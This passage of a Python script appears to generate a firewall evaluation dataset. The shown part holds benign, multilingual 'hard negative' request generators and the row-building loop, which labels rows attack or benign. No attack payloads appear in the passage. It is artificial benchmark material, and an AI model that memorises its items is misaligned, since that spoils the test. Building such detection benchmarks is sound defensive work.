                B("query", rng.choice(t), param="q", path="/search"),
            ]
        )

    def hard_header():
        return B(
            "header",
            quote(rng.choice(["東京出張_報告書.pdf", "Résumé_Zoë.pdf", "Отчёт_2026.xlsx"])),
            hname="X-Upload-Filename",
            method="POST",
            path="/api/uploads/chunked",
        )

    def hard_cjk_punct():
        t = [
            "【重要】年末年始の営業について：12/29〜1/3は休業です。",
            "《用户协议》第3条：……",
            "“引号”和「括号」都可以",
            "네, 알겠습니다! (내일 오전 10시~11시)",
        ]
        return rng.choice(
            [
                B("json", rng.choice(t), param="announcement", path="/api/cms/banners", method="POST"),
                B(
                    "query_key",
                    rng.choice(["名前", "住所", "電話番号", "이름"]),
                    kval=rng.choice(["田中", "大阪", "06-1234-5678", "김"]),
                    path="/api/forms/submit",
                ),
                B(
                    "json_key",
                    rng.choice(["名前", "住所", "電話番号", "이름", "الاسم"]),
                    kval=rng.choice(["田中", "大阪", "김", "أحمد"]),
                    path="/api/forms/submit",
                    method="POST",
                ),
            ]
        )

    return [jp, ar, he, emoji, query_cjk, path_tag, mp_name, xml_i, cookie_name, thai], [
        hard_fullwidth,
        hard_rtl_mixed,
        hard_zwj,
        hard_header,
        hard_cjk_punct,
    ]


BENIGN_KINDS = [
    ("benign_ecommerce", k_ecommerce),
    ("benign_health", k_health),
    ("benign_legal", k_legal),
    ("benign_science", k_science),
    ("benign_devops", k_devops),
    ("benign_code_review", k_code_review),
    ("benign_search", k_search),
    ("benign_graphql", k_graphql),
    ("benign_urls", k_urls),
    ("benign_files", k_files),
    ("benign_base64", k_base64),
    ("benign_api_json", k_api_json),
    ("benign_forms", k_forms),
    ("benign_headers", k_headers),
    ("benign_i18n", k_i18n),
]


# ================================================================ main
def build_rows():
    rows = []
    for cat, fn in ATTACK_CATS:
        specs = fn()
        nh = sum(1 for s in specs if s["hard"])
        assert len(specs) == 50 and nh == 20, (cat, len(specs), nh)
        for i, s in enumerate(specs, 1):
            rows.append(make_row("%s-a-%s-%04d" % (TAG, cat, i), "attack", cat, s, ATTACK_CTX))
    for idx, (kind, fn) in enumerate(BENIGN_KINDS):
        n = 74 if idx < 5 else 73
        normal, hard = fn()
        seen = set()
        ni = hi = 0
        for i in range(n):
            is_hard = i % 3 == 0
            for attempt in range(60):
                pool, ctr = (hard, hi) if is_hard else (normal, ni)
                g = pool[ctr % len(pool)] if attempt == 0 else rng.choice(pool)
                spec = g()
                p = spec["payload"]
                key = p if isinstance(p, str) else compact(p)
                if key not in seen:
                    break
            if is_hard:
                hi += 1
            else:
                ni += 1
            seen.add(key)
            spec["hard"] = is_hard
            rows.append(make_row("%s-b-%s-%04d" % (TAG, kind, i + 1), "benign", kind, spec, BENIGN_CTX))
    return rows


def main():
    rows = build_rows()
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "waf_unseen_fourteenth.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    print("wrote %d rows to %s" % (len(rows), out))


if __name__ == "__main__":
    main()
